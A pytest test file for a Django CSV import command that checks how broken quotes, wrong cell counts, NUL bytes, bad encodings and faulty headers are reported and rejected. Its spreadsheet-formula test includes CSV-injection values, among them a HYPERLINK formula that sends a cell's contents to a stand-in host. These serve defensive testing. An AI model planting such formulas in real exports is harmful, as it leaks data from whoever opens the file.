"""import_people and the file itself: stray quotes, wrong numbers of cells, NUL bytes, other
encodings, spreadsheet formulas, headers. Each gives a clear message naming the row, nothing
is swallowed, and the counts add up to the rows in the file."""

import csv
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from jigsaw.people.import_reading import RowReader
from jigsaw.people.models import ImportSetAside, Person

pytestmark = pytest.mark.django_db

HEADER = "source_id,given_name,family_name,date_of_birth,nhs_number,address,postcode\n"
AMELIA = '10234,Amelia,Hartley,14/03/2015,999 000 1006,"12 Mill Road, Eastfield, Northbridge",NB3 4QP\n'
TYLER = "10235,Tyler,Hartley,2010-09-02,9990001014,4 Castle Street,NB1 2AB\n"
DAWN = "10236,Dawn,Pike,1983-11-30,9990001022,7 Castle Street,NB1 2AB\n"


def write_text(tmp_path: Path, text: str, name: str = "people.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def write_bytes(tmp_path: Path, data: bytes, name: str = "people.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def run(path: Path, *args: str) -> str:
    out = StringIO()
    call_command("import_people", str(path), *args, stdout=out)
    return out.getvalue()


def rejects(path: Path) -> list[dict[str, str]]:
    with (path.parent / f"{path.stem}.rejects.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def names() -> set[str]:
    return set(Person.objects.values_list("given_names", flat=True))


# --- quotes --------------------------------------------------------------------------------


def test_an_unterminated_quote_costs_its_own_row_and_nothing_after_it(tmp_path):
    """The csv module alone reads row 3's open quote to the end of the file: "1 created, 0 rejected"."""
    broken = '10240,Zara,"Hartley,2012-01-01,,1 High Street,NB1 2AB\n'
    path = write_text(tmp_path, HEADER + AMELIA + broken + TYLER + DAWN)
    out = run(path)
    assert "3 created, 0 updated, 0 unchanged, 1 rejected (4 rows)" in out
    assert 'Row 3: a quote (") opened in this row is not closed where its value ends' in out
    assert names() == {"Amelia", "Tyler", "Dawn"}
    (row,) = rejects(path)
    assert row["row"] == "3" and row["source_id"] == "10240" and row["given_name"] == "Zara"


def test_an_unterminated_quote_on_the_last_row_is_reported(tmp_path):
    path = write_text(tmp_path, HEADER + AMELIA + '10240,Zara,Hartley,,,"1 High Street\n')
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 1 rejected (2 rows)" in out
    assert "Row 3: a quote" in out


def test_a_quote_closed_then_followed_by_text_is_reported(tmp_path):
    path = write_text(tmp_path, HEADER + '10240,Zara,Hartley,,,"1 High" Street,NB1 2AB\n' + TYLER)
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 1 rejected (2 rows)" in out
    assert 'Row 2: a quote (") in this row is closed and then followed by more text' in out


def test_a_value_in_quotes_over_two_lines_is_one_row_and_later_rows_name_their_lines(tmp_path):
    two_lines = '10240,Zara,Hartley,,,"Flat 2\n1 High Street",NB1 2AB\n'
    path = write_text(tmp_path, HEADER + two_lines + "10241,,,,,,\n")
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 1 rejected (2 rows)" in out
    assert Person.objects.get().addresses.get().line_1 == "Flat 2 1 High Street"
    assert "Row 3 (line 4 of the file): no name" in out


# --- numbers of cells ------------------------------------------------------------------------


def test_a_row_with_extra_cells_is_not_read_into_the_wrong_columns_and_keeps_them(tmp_path):
    shifted = "10240,Zara,Hartley,2012-01-01,,12 Mill Road, Eastfield,NB3 4QP\n"  # a comma not in quotes
    path = write_text(tmp_path, HEADER + shifted + TYLER)
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 1 rejected (2 rows)" in out
    assert "Row 2: has 1 cell more than the header has columns ('NB3 4QP')" in out
    assert "a comma inside a value that is not in quotes" in out.lower()
    (row,) = rejects(path)
    assert (row["address"], row["postcode"], row["extra_1"]) == ("12 Mill Road", " Eastfield", "NB3 4QP")

    # Corrected in the rejects file (the extra cell moved back), it imports.
    rejected = tmp_path / "people.rejects.csv"
    with rejected.open(newline="") as handle:
        rows = list(csv.reader(handle))
    rows[1][rows[0].index("address")] = "12 Mill Road, Eastfield"
    rows[1][rows[0].index("postcode")] = "NB3 4QP"
    rows[1][rows[0].index("extra_1")] = ""
    with rejected.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    assert "1 created, 0 updated, 0 unchanged, 0 rejected (1 rows)" in run(rejected)
    assert Person.objects.get(given_names="Zara").addresses.get().postcode == "NB3 4QP"


def test_empty_cells_after_the_last_column_are_harmless(tmp_path):
    path = write_text(tmp_path, HEADER + TYLER.rstrip("\n") + ",,\n")
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 0 rejected (1 rows)" in out
    assert "warning" not in out.lower()


def test_a_short_row_is_imported_with_a_warning_naming_what_was_read_as_blank(tmp_path):
    path = write_text(tmp_path, HEADER + "10240,Zara,Hartley,2012-01-01\n" + TYLER)
    out = run(path)
    assert "2 created, 0 updated, 0 unchanged, 0 rejected (2 rows)" in out
    assert "Row 2: has 4 cells but the header has 7 columns: nhs_number, address, postcode were read as blank" in out


def test_a_row_broken_in_two_by_a_line_break_not_in_quotes_is_rejected_whole(tmp_path):
    first_half = "10240,Zara,Hartley,2012-01-01,,12 Mill Road\n"
    second_half = "Eastfield,NB3 4QP\n"
    path = write_text(tmp_path, HEADER + AMELIA + first_half + second_half + TYLER)
    out = run(path)
    assert "2 created, 0 updated, 0 unchanged, 2 rejected (4 rows)" in out
    assert "Row 3: rows 3 and 4 look like one row broken in two" in out
    assert names() == {"Amelia", "Tyler"}  # no person called "NB3 4QP" from the second half
    assert [r["row"] for r in rejects(path)] == ["3", "4"]


def test_a_file_with_the_header_again_in_the_middle(tmp_path):
    path = write_text(tmp_path, HEADER + AMELIA + "\ufeff" + HEADER + TYLER)
    out = run(path)
    assert "2 created, 0 updated, 0 unchanged, 1 rejected (3 rows)" in out
    assert "Row 3: repeats the header row (were two files joined together?)" in out


def test_blank_lines_are_skipped_and_not_counted_as_rows(tmp_path):
    path = write_text(tmp_path, HEADER + AMELIA + "\n,,,,,,\n" + TYLER)
    out = run(path)
    assert "2 created, 0 updated, 0 unchanged, 0 rejected (2 rows)" in out


# --- bytes -------------------------------------------------------------------------------------


def test_a_nul_byte_is_set_aside_the_same_way_on_every_database(tmp_path):
    path = write_text(tmp_path, HEADER + "10240,Za\x00ra,Hartley,,999 000 1006,,\n" + TYLER)
    out = run(path)
    assert "2 created, 0 updated, 0 unchanged, 0 rejected (2 rows); 1 value set aside for review" in out
    assert "given_name has a NUL character (a zero byte) in it" in out
    zara = Person.objects.get(nhs_number="9990001006")
    assert (zara.given_names, zara.family_name) == ("", "Hartley")
    item = ImportSetAside.objects.get()
    assert (item.field, item.value) == ("given_name", "Za\\x00ra")


def test_a_row_whose_only_name_has_a_nul_byte_is_rejected_and_written_out_visibly(tmp_path):
    path = write_text(tmp_path, HEADER + "10240,,Hart\x00ley,,,,\n" + TYLER)
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 1 rejected (2 rows)" in out
    assert "Row 2: no name that can be used. Also: family_name has a NUL character" in out
    (row,) = rejects(path)
    assert row["family_name"] == "Hart\\x00ley"


def test_a_value_that_is_not_utf8_is_set_aside_and_the_rest_of_the_file_read(tmp_path):
    data = (HEADER + AMELIA).encode() + "10240,Zo\xeb,Hartley,,,,\n".encode("latin-1") + TYLER.encode()
    path = write_bytes(tmp_path, data)
    out = run(path)
    assert "3 created, 0 updated, 0 unchanged, 0 rejected (3 rows); 1 value set aside for review" in out
    assert "given_name has characters that are not UTF-8" in out and "'CSV UTF-8'" in out
    item = ImportSetAside.objects.get()
    assert (item.field, item.value) == ("given_name", "Zo\\xeb")
    assert names() == {"Amelia", "", "Tyler"}


def test_a_byte_order_mark_is_not_part_of_the_first_column(tmp_path):
    path = write_bytes(tmp_path, b"\xef\xbb\xbf" + (HEADER + AMELIA).encode())
    assert "1 created" in run(path)


def test_a_utf16_file_is_refused_with_what_to_do(tmp_path):
    path = write_bytes(tmp_path, (HEADER + AMELIA).encode("utf-16"))
    with pytest.raises(CommandError, match=r"saved as UTF-16 .*save it as 'CSV UTF-8"):
        run(path)
    assert not Person.objects.exists()


# --- spreadsheet formulas ---------------------------------------------------------------------


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://example.com/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"])
def test_a_value_a_spreadsheet_would_run_is_set_aside_and_never_written_out_raw(tmp_path, formula):
    cell = '"' + formula.replace('"', '""') + '"'
    path = write_text(tmp_path, HEADER + f"10240,Zara,{cell},,,,\n10241,{cell},,,,,\n")
    out = run(path)
    assert "1 created, 0 updated, 0 unchanged, 1 rejected (2 rows); 1 value set aside for review" in out
    assert f"family_name '{formula[:40]}' begins with '{formula[0]}', which a spreadsheet would run" in out
    assert ImportSetAside.objects.get().value == formula
    assert Person.objects.get().family_name == ""
    (row,) = rejects(path)
    assert row["given_name"] == "'" + formula  # neutralised in the rejects file
    raw = (tmp_path / "people.rejects.csv").read_text()
    assert f",{formula[0]}" not in raw.replace('"', "")  # no cell starts with the formula

    # Read back (as after correcting something else), the quote is undone and the value checked again.
    out = run(tmp_path / "people.rejects.csv")
    assert "0 created, 0 updated, 0 unchanged, 1 rejected (1 rows)" in out


# --- the header --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, message",
    [
        ("", "The file is empty"),
        ("\n\n", "The file is empty"),
        ("given_name,family_name\nAmelia,Hartley\n", "The file has no source_id column"),
        ("10234,Amelia,Hartley,14/03/2015\n", "The first row should name the columns, but it looks like a person"),
        (
            "source_id,given_name,surname,ward\n1,Amelia,Hartley,East\n",
            r"names 2 columns that Jigsaw does not import: surname \(did you mean family_name\?\), ward\. "
            r".*--ignore-column surname",
        ),
        ("source_id,given_name,famly_name\n1,Amelia,Hartley\n", r"famly_name \(did you mean family_name\?\)"),
        (
            "source_id,given_name,postcode,postcode\n1,Amelia,NB1,NB2\n",
            r"names the column postcode twice \(columns 3 and 4\)",
        ),
        ("source_id,,given_name\n1,x,Amelia\n", "Column 2 of the header row"),
        ("source_id,date_of_birth\n1,2015-03-14\n", "The file has no name column"),
        ('source_id,"given_name\n1,Amelia\n', r"The header row \(row 1\) cannot be read"),
    ],
)
def test_a_file_whose_header_cannot_be_used_is_refused_whole_with_why(tmp_path, text, message):
    path = write_text(tmp_path, text)
    with pytest.raises(CommandError, match=message):
        run(path)
    assert not Person.objects.exists()


def test_a_column_can_be_left_out_on_purpose_and_names_are_forgiving(tmp_path):
    path = write_text(tmp_path, "Source ID,Given-Name,FAMILY_NAME,ward\n1,Amelia,Hartley,East\n")
    out = run(path, "--ignore-column", "Ward")
    assert "Columns not used: ward" in out and "1 created" in out


def test_the_reader_numbers_rows_as_a_spreadsheet_and_lines_as_an_editor(tmp_path):
    path = write_text(tmp_path, "\n" + HEADER + '1,"Amelia\nRose",Hartley,,,,\n' + TYLER)
    with RowReader(path) as reader:
        assert reader.header.row_number == 2
        rows = list(reader)
    assert [(r.number, r.first_line, r.last_line) for r in rows] == [(3, 3, 4), (4, 5, 5)]
    assert rows[0].where == "Row 3 (lines 3 to 4 of the file)"
    assert rows[1].where == "Row 4 (line 5 of the file)"
